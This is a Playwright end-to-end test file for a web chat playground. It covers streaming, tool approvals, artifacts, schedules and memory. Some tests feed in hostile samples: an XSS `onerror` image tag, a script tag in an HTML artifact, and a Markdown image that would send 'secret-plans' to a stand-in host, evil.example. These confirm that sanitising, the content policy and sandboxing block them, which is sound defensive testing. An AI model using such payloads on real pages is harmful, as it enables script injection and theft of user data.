// The playground page (`/`, static assets built from web/) in a real browser: Chromium driven by
// playwright-core against `wrangler dev` and the loopback Anthropic provider. Each test uses the
// page as a person would (typing, clicking, reloading) and checks what they would see. A failing
// test leaves a screenshot of the page in target/e2e-screenshots/.

import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import { ROOT, anthropicVars, api, freshPersistDir, setup, startWorker } from "./harness.mjs";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const SHOTS = path.join(ROOT, "target", "e2e-screenshots");
const TIME_ZONE = "Pacific/Auckland";

let browser;

// Registered before setup's: the browser closes first, then the Worker stops. (One more
// Worker, needing a token, is started by its test below.)
after(async () => {
  await browser?.close();
});

const { anthropic, worker } = setup({
  vars: {
    DEFAULT_MODEL: "anthropic:claude-sonnet-4-5",
    APPROVAL_REQUIRED_TOOLS: "update_plan",
    // Its schedules are a few seconds ahead.
    SCHEDULE_MIN_INTERVAL_SECONDS: "2",
  },
});

// Once the Worker is up.
before(async () => {
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
});

/** Runs `fn` with a fresh page on the playground; a failure saves a screenshot first. */
async function onPage(name, fn, url = worker.url) {
  const context = await browser.newContext({ timezoneId: TIME_ZONE, locale: "en-US", viewport: { width: 1280, height: 860 } });
  const page = await context.newPage();
  const pageErrors = [];
  page.on("pageerror", (e) => pageErrors.push(e.message));
  try {
    await page.goto(`${url}/`);
    await fn(page);
    assert.deepEqual(pageErrors, [], "the page threw");
  } catch (e) {
    fs.mkdirSync(SHOTS, { recursive: true });
    const file = path.join(SHOTS, `${name}.png`);
    await page.screenshot({ path: file, fullPage: true }).catch(() => {});
    e.message += `\n  screenshot: ${path.relative(ROOT, file)}; page errors: ${JSON.stringify(pageErrors)}`;
    throw e;
  } finally {
    await context.close();
  }
}

/** Polls `check` (async, truthy when done) until it holds or `ms` pass. */
async function until(what, check, ms = 20_000) {
  const deadline = Date.now() + ms;
  for (;;) {
    const value = await check();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const status = (page) => page.locator("section.chat").getAttribute("data-status");
const lastAnswer = (page) => page.getByTestId("message-assistant").last();
const answerText = async (page) => ((await page.getByTestId("message-assistant").count()) ? lastAnswer(page).innerText() : "");

async function send(page, text) {
  await page.getByTestId("input").fill(text);
  await page.getByTestId("send").click();
}

async function idle(page) {
  await until("the turn to end", async () => (await status(page)) === "ready");
}

const conversationId = (page) => new URLSearchParams(new URL(page.url()).hash.slice(1)).get("c");

test("a message streams in, rendered as sanitised Markdown, with reasoning and usage", async () => {
  await onPage("streams", async (page) => {
    const text = 'Hello **there**! <img src="x" onerror="window.pwned = 1">\n\n- one\n- two\n\nThat is all I have to say about it, really.';
    anthropic.script({ thinking: "The user greets me; greet back.", text, gapMs: 3 });
    // The model picker lists the registry, the deployment's default first.
    const picker = page.getByTestId("model");
    assert.equal(await picker.inputValue(), "anthropic:claude-sonnet-4-5");
    assert.ok((await picker.locator("option").count()) > 3);
    await picker.selectOption("anthropic:claude-sonnet-4-5");
    await send(page, "Hi there");
    // Seen while the answer is still arriving: part of it, then all of it.
    const partial = await until("the first words", async () => {
      const shown = await answerText(page);
      return shown.includes("Hello") && (await status(page)) === "streaming" && shown;
    });
    assert.ok(!partial.includes("really."), "the answer arrived in pieces");
    await idle(page);
    const answer = lastAnswer(page);
    assert.equal(await answer.locator("strong").innerText(), "there");
    assert.equal(await answer.locator("li").count(), 2);
    assert.equal(await answer.locator("img").getAttribute("onerror"), null, "event handlers are removed");
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const reasoning = answer.getByTestId("reasoning");
    assert.equal(await reasoning.getAttribute("open"), null, "reasoning starts collapsed");
    await reasoning.locator("summary").click();
    assert.match(await reasoning.innerText(), /The user greets me; greet back\./);
    // 31 input and 17 output tokens at the registry's Sonnet prices.
    assert.match(await answer.getByTestId("usage").innerText(), /claude-sonnet-4-5 · 31 in · 17 out · \$0\.00035/);
    // The conversation is listed under its first words and is the one in the URL.
    const id = conversationId(page);
    assert.ok(id);
    await until("the conversation in the list", async () => (await page.getByTestId("conversations").innerText()).includes("Hi there"));
    const stored = await (await api(worker.url, "GET", `/v1/conversations/${id}/messages`)).json();
    assert.deepEqual(stored.messages.map((m) => m.kind), ["user", "assistant"]);
    assert.equal((await (await api(worker.url, "GET", `/v1/conversations/${id}`)).json()).model, "anthropic:claude-sonnet-4-5");
  });
});

test("the page loads nothing from elsewhere: a model's remote image is a link, and the policy forbids other origins", async () => {
  const favicon = await fetch(`${worker.url}/favicon.svg`);
  assert.equal(favicon.status, 200);
  await onPage("no-remote", async (page) => {
    const failed = [];
    page.on("requestfailed", (r) => failed.push(r.url()));
    page.on("response", (r) => r.status() >= 400 && failed.push(`${r.status()} ${r.url()}`));
    anthropic.script({ text: "Here: ![your chat](https://evil.example/log?q=secret-plans) and ![pixel](//evil.example/p.gif)" });
    await send(page, "Show me");
    await idle(page);
    const answer = lastAnswer(page);
    assert.equal(await answer.locator("img").count(), 0, "no remote image is shown");
    const links = answer.locator("a");
    assert.equal(await links.count(), 2);
    assert.equal(await links.first().getAttribute("href"), "https://evil.example/log?q=secret-plans");
    assert.equal(await links.first().innerText(), "your chat");
    // Even a script of the page's own could not reach another origin.
    const blocked = await page.evaluate(async (url) => {
      try {
        // no-cors: without the policy this resolves (an opaque response), whatever CORS says.
        await fetch(url, { mode: "no-cors" });
        return false;
      } catch {
        return true;
      }
    }, `${anthropic.url}/v1/messages`);
    assert.ok(blocked, "connect-src keeps fetches to the page's origin");
    assert.match(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content"), /img-src 'self' data: blob:/);
    assert.deepEqual(failed.filter((u) => !u.includes(anthropic.url)), [], "nothing failed to load (the favicon included)");
  });
});

test("a server tool's call and output appear", async () => {
  await onPage("server-tool", async (page) => {
    anthropic.script({ tools: [{ id: "toolu_time", name: "current_time", input: {} }] }, { text: "It is the time shown above." });
    await send(page, "What time is it on the server?");
    await idle(page);
    const card = lastAnswer(page).locator('[data-tool="current_time"]');
    assert.equal(await card.getAttribute("data-state"), "output-available");
    const output = await card.getByTestId("tool-output").innerText();
    assert.match(output, new RegExp(String(new Date().getUTCFullYear())), "the tool's output is shown");
    assert.match(await lastAnswer(page).innerText(), /It is the time shown above\./);
  });
});

test("a call that needs approval runs after the Approve click", async () => {
  await onPage("approval", async (page) => {
    anthropic.script({ text: "I will save the plan.", tools: [{ id: "toolu_plan", name: "update_plan", input: { items: [{ title: "Pack the bags", done: false }] } }] });
    await send(page, "Plan my packing.");
    const card = lastAnswer(page).locator('[data-tool="update_plan"]');
    await until("the approval request", async () => (await card.getAttribute("data-state")) === "approval-requested");
    assert.match(await card.getByTestId("tool-input").innerText(), /Pack the bags/);
    assert.equal(anthropic.requests.length > 0, true);
    const before = anthropic.requests.length;
    anthropic.script({ text: "The plan is saved." });
    await card.getByTestId("approve").click();
    await until("the answer after approval", async () => (await answerText(page)).includes("The plan is saved."));
    await idle(page);
    assert.equal(await card.getAttribute("data-state"), "output-available");
    const sent = anthropic.requests[before].body.messages.at(-1).content.find((b) => b.type === "tool_result");
    assert.equal(sent.tool_use_id, "toolu_plan");
    assert.notEqual(sent.is_error, true, "the call ran");
    const { status: state } = await (await api(worker.url, "GET", `/v1/conversations/${conversationId(page)}`)).json();
    assert.equal(state, "idle");
  });
});

test("the demo client tool runs in the page and the turn completes", async () => {
  await onPage("client-tool", async (page) => {
    const before = anthropic.requests.length;
    anthropic.script({ tools: [{ id: "toolu_clock", name: "browser_time", input: {} }] });
    anthropic.respond = (body) => {
      const result = body.messages.at(-1).content.find((b) => b.type === "tool_result");
      const output = JSON.parse(typeof result.content === "string" ? result.content : result.content[0].text);
      return { text: `Your time zone is ${output.time_zone}.` };
    };
    await send(page, "What time is it for me?");
    await until("the answer from the browser's time", async () => (await answerText(page)).includes(`Your time zone is ${TIME_ZONE}.`));
    anthropic.respond = null;
    await idle(page);
    const offered = anthropic.requests[before].body.tools.map((t) => t.name);
    assert.ok(offered.includes("browser_time"), "the page offers its tool");
    assert.equal(await lastAnswer(page).locator('[data-tool="browser_time"]').getAttribute("data-state"), "output-available");
  });
});

test("Stop ends a slow turn and keeps what arrived", async () => {
  await onPage("stop", async (page) => {
    const full = "A slow answer that the user stops before it is done. ".repeat(10);
    anthropic.script({ text: full, gapMs: 15 });
    await send(page, "Tell me something long.");
    await until("the first words", async () => (await answerText(page)).includes("A slow answer"));
    await page.getByTestId("stop").click();
    await idle(page);
    await until("the answer marked stopped", async () => (await answerText(page)).includes("stopped"));
    assert.ok((await answerText(page)).length < full.length, "the answer was cut short");
    const { messages } = await (await api(worker.url, "GET", `/v1/conversations/${conversationId(page)}/messages`)).json();
    assert.equal(messages.at(-1).stop_reason, "aborted");
    // Retry answers the same question again, in place of the stopped answer.
    anthropic.script({ text: "A complete answer this time." });
    await page.getByTestId("retry").click();
    await until("the new answer", async () => (await answerText(page)).includes("A complete answer this time."));
    await idle(page);
    assert.equal(await page.getByTestId("message-assistant").count(), 1);
    assert.deepEqual(await page.getByTestId("message-user").allInnerTexts(), ["Tell me something long."]);
  });
});

test("a message typed during a slow turn shows as queued, then gets its answer", async () => {
  await onPage("queue", async (page) => {
    anthropic.script({ text: "The first answer, arriving slowly. ".repeat(5), gapMs: 8 }, { text: "And this answers the queued message." });
    await send(page, "First question");
    await until("the first answer streaming", async () => (await answerText(page)).includes("The first answer"));
    await send(page, "Second question");
    const queued = page.getByTestId("queued");
    await until("the queued message", async () => (await queued.count()) === 1);
    assert.match(await queued.innerText(), /queued: (steering|follow-up)\s*Second question/);
    await until("the queued message's answer", async () => (await page.locator(".messages").innerText()).includes("And this answers the queued message."), 30_000);
    await idle(page);
    await until("the queue to empty", async () => (await queued.count()) === 0);
    const users = await page.getByTestId("message-user").allInnerTexts();
    assert.deepEqual(users, ["First question", "Second question"]);
  });
});

test("a page reloaded mid-turn re-attaches to the running turn", async () => {
  await onPage("resume", async (page) => {
    const sentence = "This answer keeps streaming across a reload. ";
    anthropic.script({ text: sentence.repeat(8), gapMs: 8 });
    await send(page, "Tell me a long story.");
    await until("the first words", async () => (await answerText(page)).includes("This answer"));
    await until("the conversation in the URL", async () => conversationId(page));
    await page.reload();
    await until("the whole answer after the reload", async () => (await answerText(page)).split(sentence.trim()).length - 1 === 8, 30_000);
    await idle(page);
    assert.deepEqual(await page.getByTestId("message-user").allInnerTexts(), ["Tell me a long story."]);
    assert.equal(await page.getByTestId("message-assistant").count(), 1, "the answer is shown once");
  });
});

test("an artifact appears in the panel and updates as new versions arrive", async () => {
  await onPage("artifact", async (page) => {
    let artifactId;
    anthropic.respond = (body) => {
      const result = body.messages.at(-1).content.find?.((b) => b.type === "tool_result");
      if (!result) return { tools: [{ id: "toolu_a1", name: "create_artifact", input: { title: "Trip plan", kind: "markdown", content: "# Trip plan\n\n- book the train" } }] };
      if (result.tool_use_id === "toolu_a1") {
        artifactId = JSON.parse(result.content).artifact.id;
        // Slowly, so the first version is on screen for a while.
        return { text: "Adding one more step now. ".repeat(4), gapMs: 8, tools: [{ id: "toolu_a2", name: "update_artifact", input: { id: artifactId, content: "# Trip plan\n\n- book the train\n- pack the bags" } }] };
      }
      if (result.tool_use_id === "toolu_a2") {
        // Slowly too: the second version stays on screen until the next artifact replaces it.
        return { text: "Now a boarding pass. ".repeat(4), gapMs: 3, tools: [{ id: "toolu_a3", name: "create_artifact", input: { title: "Card", kind: "html", content: "<h1>Boarding pass</h1><script>parent.pwned = 1</script>" } }] };
      }
      return { text: "The plan has two steps, and your boarding pass is ready." };
    };
    await send(page, "Plan my trip as an artifact.");
    const panel = page.getByTestId("artifact");
    await until("the first version in the panel", async () => (await panel.count()) === 1 && (await panel.getAttribute("data-version")) === "1");
    assert.equal(await panel.locator("h1").innerText(), "Trip plan", "Markdown is rendered");
    assert.doesNotMatch(await panel.innerText(), /pack the bags/);
    await until("the second version", async () => (await panel.getAttribute("data-version")) === "2");
    assert.match(await panel.innerText(), /pack the bags/);
    await idle(page);
    // The HTML artifact, created last, is shown in a sandboxed frame where its script cannot run.
    await until("the HTML artifact", async () => (await panel.getAttribute("data-kind")) === "html");
    assert.equal(await panel.locator("iframe").getAttribute("sandbox"), "");
    assert.equal(await page.frameLocator("[data-testid=artifact] iframe").locator("h1").innerText(), "Boarding pass");
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    // The first artifact is a tab away.
    await page.locator(".tab", { hasText: "Trip plan" }).click();
    await until("the plan again", async () => (await panel.getAttribute("data-kind")) === "markdown");
    anthropic.respond = null;
    assert.ok(artifactId);
  });
});

test("where the deployment needs a token, the page asks for one and keeps it in the session", async () => {
  const locked = await startWorker({
    persistDir: freshPersistDir(),
    vars: { ...anthropicVars(anthropic), ALLOW_ANONYMOUS: "false", API_KEYS: "tester:sk-test-123" },
  });
  try {
    await onPage(
      "token",
      async (page) => {
        const token = page.getByTestId("token");
        await token.fill("sk-wrong");
        await token.press("Enter");
        await until("the refusal", async () => (await page.locator(".signin").innerText()).includes("not accepted"));
        await page.getByTestId("token").fill("sk-test-123");
        await page.getByTestId("token").press("Enter");
        anthropic.script({ text: "Signed in and answering." });
        await send(page, "Hello with a token");
        await until("the answer", async () => (await answerText(page)).includes("Signed in and answering."));
        // The token stays in this tab's session only, and a reload does not ask again.
        assert.equal(await page.evaluate(() => localStorage.length), 0);
        await page.reload();
        await until("the conversation after the reload", async () => (await answerText(page)).includes("Signed in and answering."));
        const auth = { authorization: "Bearer sk-test-123" };
        const listed = await (await api(locked.url, "GET", "/v1/conversations", undefined, auth)).json();
        assert.deepEqual(listed.conversations.map((c) => c.title), ["Hello with a token"]);
        // Deleting it from the list deletes it on the server.
        const id = conversationId(page);
        await page.getByTestId("delete").click();
        await until("the list to empty", async () => (await page.getByTestId("conversations").locator("li").count()) === 0);
        assert.equal(conversationId(page), null, "the page left the deleted conversation");
        assert.equal((await api(locked.url, "GET", `/v1/conversations/${id}`, undefined, auth)).status, 404);
      },
      locked.url,
    );
  } finally {
    await locked.stop();
  }
});

test("an agent's typed answer shows as an object forming, then complete, and again after a reload", async () => {
  const agents = {
    helper: { description: "Talks" },
    extractor: {
      description: "Extracts a city",
      output: { type: "object", schema: { type: "object", properties: { city: { type: "string" }, country: { type: "string" } }, required: ["city", "country"] } },
    },
  };
  const typed = await startWorker({ persistDir: freshPersistDir(), vars: { ...anthropicVars(anthropic), AGENTS: JSON.stringify(agents) } });
  try {
    await onPage(
      "typed",
      async (page) => {
        await page.getByTestId("agent").selectOption("extractor");
        // Slow enough to be seen forming.
        anthropic.script({ text: JSON.stringify({ city: "Wellington, the windy capital", country: "New Zealand" }), gapMs: 15 });
        await send(page, "Where is the Beehive?");
        const output = () => lastAnswer(page).getByTestId("output");
        const forming = await until("the object forming", async () => (await output().count()) === 1 && (await output().getAttribute("data-status")) === "streaming" && output().getByTestId("output-object").innerText());
        assert.ok(!forming.includes("New Zealand"), `shown before it was whole: ${forming}`);
        await idle(page);
        assert.equal(await output().getAttribute("data-status"), "complete");
        const complete = JSON.parse(await output().getByTestId("output-object").innerText());
        assert.deepEqual(complete, { city: "Wellington, the windy capital", country: "New Zealand" });
        // The JSON is not also shown as text.
        assert.ok(!(await lastAnswer(page).innerText()).includes('{"city"'));
        await page.reload();
        await until("the object after the reload", async () => (await output().count()) === 1 && (await output().getAttribute("data-status")) === "complete");
        assert.deepEqual(JSON.parse(await output().getByTestId("output-object").innerText()), complete);
      },
      typed.url,
    );
  } finally {
    await typed.stop();
  }
});

test("a sub-agent's work shows under its tool card, and its call that needs approval is approved on the parent's page, after a reload too", async () => {
  const agents = {
    lead: { description: "Leads", tools: [{ type: "agent", agent: "writer" }] },
    writer: { description: "Writes plans", tools: ["update_plan"] },
  };
  const nested = await startWorker({ persistDir: freshPersistDir(), vars: { ...anthropicVars(anthropic), AGENTS: JSON.stringify(agents), APPROVAL_REQUIRED_TOOLS: "update_plan" } });
  try {
    await onPage(
      "sub-agent",
      async (page) => {
        await page.getByTestId("agent").selectOption("lead");
        anthropic.script(
          { tools: [{ id: "toolu_w", name: "writer", input: { task: "Plan the packing" } }] },
          // The writer streams slowly enough to be seen, then asks for a call that needs approval.
          { text: "Drafting the packing plan now. ".repeat(4), gapMs: 8, tools: [{ id: "toolu_p", name: "update_plan", input: { items: [{ title: "Pack the tent", done: false }] } }] },
        );
        await send(page, "Have the writer plan my packing.");
        const card = lastAnswer(page).locator('[data-tool="writer"]');
        const work = card.getByTestId("child-work");
        await until("the writer's work streaming under its card", async () => (await work.count()) === 1 && /Drafting the packing plan/.test(await work.innerText()));
        // The parent's own part (the child's work shows the call too, without buttons).
        const approval = lastAnswer(page).locator(':scope > [data-tool="update_plan"][data-state="approval-requested"]');
        await until("the writer's call waiting for approval on the parent's page", async () => (await approval.count()) === 1);
        assert.match(await approval.getByTestId("tool-input").innerText(), /Pack the tent/);
        await idle(page);
        const link = await work.getByTestId("child-link").getAttribute("href");
        const [child] = (await (await api(nested.url, "GET", `/v1/conversations?parent=${conversationId(page)}`)).json()).conversations;
        assert.equal(link, `#c=${child.id}`);

        // After a reload the call still waits, and is approved from here.
        await page.reload();
        await until("the approval after the reload", async () => (await approval.count()) === 1);
        anthropic.script({ text: "The plan is saved." }, { text: "The writer has planned your packing." });
        await approval.getByTestId("approve").click();
        await until("the lead's answer after the approval", async () => (await answerText(page)).includes("The writer has planned your packing."));
        await idle(page);
        assert.equal(await card.getAttribute("data-state"), "output-available");
        assert.match(await card.locator(':scope > .tool-io [data-testid="tool-output"]').innerText(), /The plan is saved\./);
        // The child's own history: its call ran once approved.
        const stored = (await (await api(nested.url, "GET", `/v1/conversations/${child.id}/messages`)).json()).messages;
        const result = stored.find((m) => m.kind === "tool_result");
        assert.equal(result.tool_call_id, "toolu_p");
        assert.ok(!result.is_error, JSON.stringify(result));
        // Its work is there to open, read from its conversation.
        await card.getByTestId("child-toggle").click();
        await until("the child's stored work", async () => /The plan is saved\./.test(await card.getByTestId("child-work").innerText()));
      },
      nested.url,
    );
  } finally {
    await nested.stop();
  }
});

test("an image attached in the composer reaches the model, shows in the transcript, and is still there after a reload", async () => {
  // A real 2x1 PNG.
  const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAYAAAD0In+KAAAADklEQVR4nGP4z8AAQv8BD/kD/YURmXYAAAAASUVORK5CYII=", "base64");
  await onPage("attach", async (page) => {
    anthropic.script({ text: "Two pixels." });
    const before = anthropic.requests.length;
    await page.getByTestId("file-input").setInputFiles({ name: "pixels.png", mimeType: "image/png", buffer: png });
    // A thumbnail in the composer until it is sent.
    await until("the composer's thumbnail", async () => (await page.getByTestId("attachment").count()) === 1);
    await send(page, "What is this?");
    await idle(page);
    assert.equal(await page.getByTestId("attachment").count(), 0, "the composer is empty again");
    assert.match(await answerText(page), /^Two pixels\./);
    const blocks = anthropic.requests.slice(before).at(-1).body.messages[0].content;
    assert.deepEqual(blocks.map((b) => b.type), ["image", "text"]);
    assert.equal(blocks[0].source.data, png.toString("base64"));

    // The transcript shows the image: from the stream now, from the files route after a reload.
    const shown = async () => {
      const img = page.getByTestId("message-user").last().getByTestId("file-thumb");
      return (await img.count()) === 1 && (await img.evaluate((el) => el.complete && el.naturalWidth)) === 2;
    };
    await until("the image in the transcript", shown);
    await page.reload();
    await until("the reloaded transcript", async () => (await page.getByTestId("message-user").count()) === 1);
    await until("the image, served by the files route, after the reload", shown);
    const src = await page.getByTestId("message-user").last().getByTestId("file-thumb").getAttribute("src");
    assert.match(src, /^blob:/, "fetched from the files route with the caller's token");
  });
});

test("a conversation's schedules are listed above the composer and one can be cancelled", async () => {
  const { id } = await (await api(worker.url, "POST", "/v1/conversations", {})).json();
  for (const body of [{ instruction: "Send the weekly digest.", cron: "0 9 * * mon" }, { instruction: "Check on the deploy.", delay_seconds: 3600 }]) {
    assert.equal((await api(worker.url, "POST", `/v1/conversations/${id}/schedules`, body)).status, 201);
  }
  await onPage("schedules", async (page) => {
    await page.goto(`${worker.url}/#c=${id}`);
    const rows = page.getByTestId("schedule");
    await until("both schedules listed", async () => (await rows.count()) === 2);
    const [weekly, once] = await rows.allInnerTexts();
    assert.match(weekly, /0 9 \* \* mon \(UTC\)/);
    assert.match(weekly, /Send the weekly digest\./);
    assert.match(once, /next .*Check on the deploy\./s);
    await rows.filter({ hasText: "Send the weekly digest." }).getByTestId("cancel-schedule").click();
    await until("one schedule left", async () => (await rows.count()) === 1);
    const left = await (await api(worker.url, "GET", `/v1/conversations/${id}/schedules`)).json();
    assert.deepEqual(left.schedules.map((s) => s.instruction), ["Check on the deploy."]);
  });
});

test("a scheduled turn that comes due while the page is open streams into it with nothing clicked", async () => {
  const { id } = await (await api(worker.url, "POST", "/v1/conversations", {})).json();
  anthropic.script({ text: "Time to stretch your legs! A short walk does wonders.", writes: "event", gapMs: 120 });
  assert.equal((await api(worker.url, "POST", `/v1/conversations/${id}/schedules`, { instruction: "Remind the user to stretch.", delay_seconds: 4 })).status, 201);
  await onPage("scheduled-turn", async (page) => {
    await page.goto(`${worker.url}/#c=${id}`);
    await until("the schedule listed", async () => (await page.getByTestId("schedule").count()) === 1);
    assert.equal(await page.getByTestId("message-assistant").count(), 0);
    // While it streams, the answer grows on the page.
    await until("the scheduled answer's first words", async () => (await answerText(page)).startsWith("Time to stretch"), 20_000);
    await until("the whole answer", async () => (await answerText(page)).includes("does wonders."), 20_000);
    await idle(page);
    assert.match(await page.getByTestId("notice").last().innerText(), /Scheduled turn: Remind the user to stretch\./);
    await until("the schedule shown as run", async () => /ran .*completed/.test(await page.getByTestId("schedule").innerText()));
  });
});

test("a scheduled turn that waits behind the page's own turn streams into the page when that turn ends", async () => {
  const { id } = await (await api(worker.url, "POST", "/v1/conversations", {})).json();
  // Each turn's answer by what it was asked, whichever comes first.
  anthropic.respond = (body) => JSON.stringify(body.messages.at(-1)).includes("drink water")
    ? { text: "Your reminder: drink some water, slowly and often.", writes: "event", gapMs: 120 }
    : { text: "The page's own answer, taking its time. ".repeat(8), writes: "event", gapMs: 100 };
  try {
    await onPage("scheduled-after-own-turn", async (page) => {
      await page.goto(`${worker.url}/#c=${id}`);
      await page.getByTestId("input").waitFor();
      // Due 3 s from now, while the page's own turn (about 6 s) streams; the list reads it when
      // that turn starts.
      assert.equal((await api(worker.url, "POST", `/v1/conversations/${id}/schedules`, { instruction: "Remind the user to drink water.", delay_seconds: 3 })).status, 201);
      await send(page, "Tell me something slowly.");
      await until("the schedule listed", async () => (await page.getByTestId("schedule").count()) === 1);
      await until("the page's own answer", async () => (await answerText(page)).includes("taking its time"));
      await until("the scheduled answer", async () => (await page.locator(".messages").innerText()).includes("drink some water, slowly and often."), 30_000);
      await idle(page);
      // In order: the page's own answer, the schedule's notice, its answer.
      const shown = await page.locator(".messages").innerText();
      const at = (text) => shown.indexOf(text);
      assert.ok(at("taking its time") >= 0 && at("taking its time") < at("Scheduled turn: Remind the user to drink water.") && at("Scheduled turn") < at("drink some water, slowly"), shown);
    });
  } finally {
    anthropic.respond = null;
  }
});

test("the memory panel shows, edits and clears what an agent remembers, and an answer marks what it recalled", async () => {
  const agents = {
    concierge: {
      description: "Remembers your tastes",
      memory: { working: { schema: { type: "object", properties: { diet: { type: "string" }, city: { type: "string" } }, additionalProperties: false } } },
    },
  };
  const remembering = await startWorker({ persistDir: freshPersistDir(), vars: { ...anthropicVars(anthropic), AGENTS: JSON.stringify(agents) } });
  try {
    await onPage(
      "memory",
      async (page) => {
        // The agent keeps a fact as it answers.
        anthropic.script({ text: "Noted: you are vegan.", tools: [{ id: "toolu_m", name: "update_memory", input: { patch: { diet: "vegan" } } }] });
        await send(page, "I am vegan and I love ramen.");
        await idle(page);
        const first = conversationId(page);

        // The panel shows it; an edit is saved and kept; Clear forgets it.
        await page.getByTestId("open-memory").click();
        const entry = page.locator('[data-testid="memory-entry"][data-agent="concierge"]');
        await until("the memory entry", async () => (await entry.count()) === 1);
        const text = entry.getByTestId("memory-text");
        await until("what was kept", async () => JSON.parse(await text.inputValue()).diet === "vegan");
        await text.fill(JSON.stringify({ diet: "vegan", city: "Kyoto" }));
        await entry.getByTestId("memory-save").click();
        await until("the saved version", async () => (await entry.getAttribute("data-version")) === "2");
        const kept = (await (await api(remembering.url, "GET", "/v1/me/memory")).json()).memory[0].memory;
        assert.deepEqual(kept, { diet: "vegan", city: "Kyoto" });
        // What the schema refuses is shown, and nothing changes.
        await text.fill(JSON.stringify({ shoe: 42 }));
        await entry.getByTestId("memory-save").click();
        await until("the refusal", async () => /schema/.test(await entry.locator(".error").innerText().catch(() => "")));
        await page.reload();
        await until("the memory after a reload", async () => (await text.count()) === 1 && JSON.parse(await text.inputValue()).city === "Kyoto");
        await entry.getByTestId("memory-clear").click();
        await until("the cleared memory", async () => (await entry.getAttribute("data-version")) === "3" && (await text.inputValue()).trim() === "{}");

        // A new conversation recalls the first, and its answer says where from.
        await page.getByTestId("new").click();
        anthropic.script({ text: "Try a vegan ramen shop." });
        await send(page, "Where should I eat ramen tonight?");
        await idle(page);
        const recalled = page.getByTestId("recalled");
        await until("the recalled line", async () => (await recalled.count()) === 1);
        assert.equal(await recalled.locator("a").first().getAttribute("href"), `#c=${first}`);
        assert.match(await recalled.innerText(), /Remembered from I am vegan and I love ramen\./);
      },
      remembering.url,
    );
  } finally {
    await remembering.stop();
  }
});
